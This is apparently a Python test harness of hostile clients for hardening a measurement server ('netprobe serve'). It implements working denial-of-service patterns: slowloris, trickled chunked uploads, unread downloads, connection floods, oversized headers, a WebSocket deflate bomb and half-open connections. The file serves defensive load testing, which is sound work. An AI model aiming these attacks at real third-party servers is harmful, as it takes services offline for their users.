"""Hostile clients for `netprobe serve`: `python attackers.py PATTERN HOST PORT`.

Each pattern keeps its attack up until killed, reconnecting whatever the server closes, and
prints its counters as one JSON line every half second (the last line is the tally):
opened, refused (a 503 answer), closed (by the server: FIN or reset), statuses seen.

slowloris   50 connections sending a request's headers one byte a second
trickle     20 chunked uploads (native, cloudflare, librespeed, speedtest) of 1 byte every 2 s
nonreading  20 downloads (native, speedtest) and 8 ndt7 downloads whose bytes are never read
many        200 connections from one address, each pinging once a second (keep-alive)
oversized   8 loops of requests with a 100 KB header line or 200 header lines
bomb        16 ndt7 uploads offering permessage-deflate, sending 16 MiB of zeros deflated
halfopen    300 half-sent requests from 8 addresses of one /24, reopened the moment closed
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import socket
import struct
import sys
import zlib
from collections import Counter
from collections.abc import Awaitable, Callable

tally: Counter[str] = Counter()
HOST = "127.0.0.1"
PORT = 8080


async def connect(source: str | None = None) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    local = (source, 0) if source else None
    reader, writer = await asyncio.open_connection(HOST, PORT, local_addr=local)
    tally["opened"] += 1
    return reader, writer


def seen(answer: bytes) -> None:
    """Count what the server said: its status line, or a close."""
    if not answer:
        tally["closed"] += 1
    elif answer.startswith((b"HTTP/1.1 ", b"HTTP/1.0 ")):
        status = answer[9:12].decode()
        tally[f"status_{status}"] += 1
        if status == "503":
            tally["refused"] += 1


async def forever(worker: Callable[[int], Awaitable[None]], count: int) -> None:
    async def again(k: int) -> None:
        while True:
            try:
                await worker(k)
            except (ConnectionError, OSError, asyncio.IncompleteReadError):
                tally["closed"] += 1
                await asyncio.sleep(0.05)

    await asyncio.gather(*(again(k) for k in range(count)))


async def hold(
    head: bytes, drip: bytes, interval_seconds: float, source: str | None = None
) -> None:
    """Send `head`, then `drip` every interval, until the server answers or closes."""
    reader, writer = await connect(source)
    try:
        writer.write(head)
        while True:
            try:
                answer = await asyncio.wait_for(reader.read(4096), interval_seconds)
            except TimeoutError:
                if drip:
                    writer.write(drip)
                continue
            seen(answer)
            return
    finally:
        writer.close()


def unread(sock: socket.socket) -> bool:
    """Whether a connection whose data we never read is still open (peek, never consume)."""
    try:
        return bool(sock.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT))
    except BlockingIOError:
        return True
    except OSError:
        return False


async def slowloris(k: int) -> None:
    await hold(b"GET /netprobe/v1/ping HTTP/1.1\r\nHost: lab\r\nX-Slow: ", b"a", 1.0)


UPLOADS = [
    "/netprobe/v1/upload?test=trickle{k}&stream=0",
    "/__up",
    "/backend/empty.php",
    "/speedtest/upload.php",
]


async def trickle(k: int) -> None:
    path = UPLOADS[k % len(UPLOADS)].format(k=k)
    head = f"POST {path} HTTP/1.1\r\nHost: lab\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
    await hold(head, b"1\r\nx\r\n", 2.0)


def websocket_head(path: str, extensions: str = "") -> bytes:
    key = base64.b64encode(os.urandom(16)).decode()
    return (
        f"GET {path} HTTP/1.1\r\nHost: lab\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
        f"Sec-WebSocket-Protocol: net.measurementlab.ndt.v7\r\n{extensions}\r\n"
    ).encode()


async def nonreading(k: int) -> None:
    if k < 8:
        head = websocket_head("/ndt/v7/download")
    elif k % 2:
        path = f"/netprobe/v1/download?bytes=2000000000&test=park{k}"
        head = f"GET {path} HTTP/1.1\r\nHost: lab\r\n\r\n".encode()
    else:
        head = b"GET /speedtest/random4000x4000.jpg HTTP/1.1\r\nHost: lab\r\n\r\n"
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.setblocking(False)
    await asyncio.get_running_loop().sock_connect(sock, (HOST, PORT))
    tally["opened"] += 1
    try:
        sock.send(head)
        while unread(sock):
            await asyncio.sleep(0.5)
        tally["closed"] += 1
    finally:
        sock.close()


async def many(k: int) -> None:
    reader, writer = await connect()
    try:
        while True:
            writer.write(b"GET /netprobe/v1/ping HTTP/1.1\r\nHost: lab\r\n\r\n")
            answer = await reader.read(4096)
            seen(answer)
            if not answer or b" 503 " in answer[:16]:
                return
            await asyncio.sleep(1.0)
    finally:
        writer.close()


async def oversized(k: int) -> None:
    reader, writer = await connect()
    if k % 2:
        headers = b"X-Big: " + b"b" * 100_000 + b"\r\n"
    else:
        headers = b"".join(b"X-Many-%d: %s\r\n" % (n, b"m" * 100) for n in range(200))
    try:
        writer.write(b"GET /netprobe/v1/hello HTTP/1.1\r\nHost: lab\r\n" + headers + b"\r\n")
        seen(await reader.read(4096))
    finally:
        writer.close()
    await asyncio.sleep(0.05)


def frame(payload: bytes, compressed: bool) -> bytes:
    """One masked binary frame, RSV1 set when the payload is deflated."""
    first = 0x82 | (0x40 if compressed else 0)
    mask = os.urandom(4)
    masked = bytes(b ^ mask[n % 4] for n, b in enumerate(payload[:64])) + payload[64:]
    return struct.pack("!BBQ", first, 0x80 | 127, len(payload)) + mask + masked


async def bomb(k: int) -> None:
    """Deflated 16 MiB messages (k even), or plain frames that announce 16 MiB (k odd)."""
    compressed = k % 2 == 0
    reader, writer = await connect()
    try:
        extensions = "Sec-WebSocket-Extensions: permessage-deflate\r\n" if compressed else ""
        writer.write(websocket_head("/ndt/v7/upload", extensions))
        seen(await reader.read(4096))
        message = BOMB if compressed else bytes(16 << 20)
        while True:
            writer.write(frame(message, compressed))
            await writer.drain()
            try:
                answer = await asyncio.wait_for(reader.read(65536), 0.2)
            except TimeoutError:
                continue
            if not answer:
                tally["closed"] += 1
                return
    finally:
        writer.close()


def _deflated_zeros(n_bytes: int) -> bytes:
    deflate = zlib.compressobj(wbits=-15)
    data = deflate.compress(bytes(n_bytes)) + deflate.flush(zlib.Z_SYNC_FLUSH)
    return data[:-4]  # permessage-deflate drops the sync flush's tail


BOMB = _deflated_zeros(16 << 20)


async def halfopen(k: int) -> None:
    await hold(b"GET /netprobe/v1/hello HTTP/1.1\r\nHo", b"", 30.0, source=f"127.0.0.{1 + k % 8}")


PATTERNS: dict[str, tuple[Callable[[int], Awaitable[None]], int]] = {
    "slowloris": (slowloris, 50),
    "trickle": (trickle, 20),
    "nonreading": (nonreading, 20),
    "many": (many, 200),
    "oversized": (oversized, 8),
    "bomb": (bomb, 16),
    "halfopen": (halfopen, 300),
}


async def report() -> None:
    while True:
        print(json.dumps(dict(tally)), flush=True)
        await asyncio.sleep(0.5)


async def main(pattern: str) -> None:
    worker, count = PATTERNS[pattern]
    await asyncio.gather(report(), forever(worker, count))


if __name__ == "__main__":
    HOST, PORT = sys.argv[2], int(sys.argv[3])
    asyncio.run(main(sys.argv[1]))
